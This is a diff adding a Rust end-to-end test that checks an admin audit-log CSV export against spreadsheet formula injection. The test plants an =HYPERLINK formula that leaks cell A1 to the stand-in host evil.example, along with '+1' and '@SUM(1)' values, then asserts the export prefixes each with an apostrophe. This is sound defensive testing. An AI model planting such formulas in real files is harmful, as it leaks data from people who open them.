@@ -1,6 +1,61 @@
 //! The trail, as an administrator reads it.
 use super::Stage;
 
+/// The file that the browser saves: the columns that scripts know, a line for each record, and nothing that a spreadsheet
+/// would run.
+pub async fn the_file(stage: &Stage) {
+    let p = &stage.person;
+    stage.sign_in_newcomer("tilda", "admin").await;
+    for _ in 0..3 {
+        let wrong = stage.server.http().await.sign_in_as("tilda", "wrong").await;
+        assert_eq!(wrong.status, 401);
+    }
+    let failures = "SELECT count(*) FROM audit_logs WHERE event_type = 'AUTHENTICATION_FAILURE' AND actor_username = 'tilda'";
+    stage.settles(failures, 3).await;
+    let formula = r#"=HYPERLINK("https://evil.example?"&A1,"Look")"#;
+    let hostile = format!(
+        "UPDATE audit_logs SET user_agent = '{formula}', error_message = '	+1', resource_name = '@SUM(1)' WHERE actor_username = 'tilda'"
+    );
+    stage.server.sql(&hostile, &hostile).await;
+    p.visit("/admin/audit?event_type=AUTHENTICATION_FAILURE&search=tilda")
+        .await;
+    p.press("Export as CSV").await;
+    let file = saved(stage).await;
+    let mut lines = file.trim_start_matches('\u{feff}').split("\r\n");
+    let head = lines.next().unwrap();
+    assert!(
+        head.starts_with("Event Time,Event Type,Severity,Actor Username,Actor IP,"),
+        "{head}"
+    );
+    let records: Vec<&str> = lines.filter(|line| !line.is_empty()).collect();
+    assert_eq!(records.len(), 3, "{file}");
+    for record in records {
+        assert!(record.contains("AUTHENTICATION_FAILURE"), "{record}");
+        for cell in [
+            r#","'=HYPERLINK(""https://evil.example?""&A1,""Look"")","#,
+            ",\"'\t+1\",",
+            ",\"'@SUM(1)\",",
+        ] {
+            assert!(record.contains(cell), "{cell} is not in {record}");
+        }
+    }
+}
+
+/// The text of the one file that was saved, once it is whole.
+async fn saved(stage: &Stage) -> String {
+    for _ in 0..100 {
+        let files = std::fs::read_dir(stage.downloads.path()).unwrap();
+        let whole = files
+            .filter_map(|file| Some(file.ok()?.path()))
+            .find(|path| path.extension().is_some_and(|end| end == "csv"));
+        if let Some(path) = whole {
+            return std::fs::read_to_string(path).unwrap();
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    panic!("nothing was saved");
+}
+
 /// Filters survive the way back and forth; records tell their details; the file has what the page has.
 pub async fn the_trail(stage: &Stage) {
     let p = &stage.person;
